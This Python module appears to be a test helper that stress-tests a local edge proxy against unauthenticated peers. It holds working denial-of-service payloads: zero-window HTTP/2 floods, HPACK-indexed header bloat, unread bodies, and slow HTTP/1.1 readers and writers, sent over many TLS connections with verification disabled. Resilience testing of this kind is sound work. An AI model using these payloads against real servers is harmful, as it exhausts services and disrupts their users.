"""Peers that ask much of the edge's memory and say little: each keeps its connections until it is closed. None has signed in."""

import socket
import ssl
import struct

STREAMS = 100
PATIENCE = 5  # seconds, for an edge that takes no more
MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS = 0, 1, 4
END_STREAM, END_HEADERS = 1, 4
NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE: nothing of an answer's content may leave
FILE = "/cdn-cgi/access/terminal.js"  # the largest there is


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value):
    """A string literal of HPACK (RFC 7541 5.2), not Huffman coded."""
    value = value.encode() if isinstance(value, str) else value
    size, out = len(value), b""
    if size < 127:
        return bytes((size,)) + value
    size, out = size - 127, b"\x7f"
    while size >= 128:
        size, out = size >> 7, out + bytes((size & 127 | 128,))
    return out + bytes((size,)) + value


def head(method, path, host):
    """`:method` GET or POST, `:scheme`, `:path`, `:authority` by their indices (RFC 7541 A)."""
    return bytes((0x82 if method == "GET" else 0x83, 0x87)) + b"\x04" + text(path) + b"\x01" + text(host)


def heads_by_index(host):
    """A hundred heads of 28,000 bytes, by a field of the table again and again, and never a body."""
    begun = head("POST", "/cdn-cgi/access/cert_sign", host)
    first = frame(HEADERS, END_HEADERS, 1, begun + b"\x40\x01x" + text(b"v" * 4000))
    more = (frame(HEADERS, END_HEADERS, 2 * i + 1, begun + b"\xbe" * 7) for i in range(1, STREAMS))
    return "h2", MAGIC + frame(SETTINGS, 0, 0) + first + b"".join(more)


def zero_windows(host):
    """A hundred requests for the largest file, of which not a byte may be sent."""
    asked = head("GET", FILE, host)
    return "h2", MAGIC + frame(SETTINGS, 0, 0, NO_WINDOW) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, asked) for i in range(STREAMS)
    )


def zero_windows_and_heads(host):
    """The same with heads of 28,000 bytes by index, which have been answered but for the content."""
    asked = head("GET", FILE, host)
    first = frame(HEADERS, END_STREAM | END_HEADERS, 1, asked + b"\x40\x01x" + text(b"v" * 4000))
    more = (frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, asked + b"\xbe" * 7) for i in range(1, STREAMS))
    return "h2", MAGIC + frame(SETTINGS, 0, 0, NO_WINDOW) + first + b"".join(more)


def bodies_not_read(host):
    """A megabyte of bodies behind requests that need none, and whose answers wait."""
    asked = head("POST", FILE, host)
    return "h2", MAGIC + frame(SETTINGS, 0, 0, NO_WINDOW) + b"".join(
        frame(HEADERS, END_HEADERS, 2 * i + 1, asked) + frame(DATA, 0, 2 * i + 1, b"x" * 10_000) for i in range(STREAMS)
    )


def slow_readers(host):
    return "http/1.1", f"GET {FILE} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() * 20


def slow_writers(host):
    head_ = f"POST /cdn-cgi/access/cert_sign HTTP/1.1\r\nHost: {host}\r\nContent-Length: 200000\r\n\r\n"
    return "http/1.1", head_.encode() + b"x" * 150_000


def idle(_host):
    return "h2", MAGIC + frame(SETTINGS, 0, 0)


ALL = (zero_windows, zero_windows_and_heads, bodies_not_read, heads_by_index, slow_readers, slow_writers, idle)


class Attack:
    """`count` connections at once that say what `kind` says, and then nothing."""

    def __init__(self, edge, kind, count):
        self._port, (protocol, self._says) = edge.port, kind(edge.auth_domain)
        self._context = ssl.create_default_context()
        self._context.check_hostname, self._context.verify_mode = False, ssl.CERT_NONE
        self._context.set_alpn_protocols([protocol])
        self._sockets = []
        for _ in range(count):
            self._open()

    def _open(self):
        plain = socket.socket()
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        plain.settimeout(PATIENCE)
        try:
            plain.connect(("127.0.0.1", self._port))
            secured = self._context.wrap_socket(plain)
            self._sockets.append(secured)
            secured.sendall(self._says)
        except OSError:
            plain.close()  # the edge has refused it, as it may

    def close(self):
        for one in self._sockets:
            one.close()
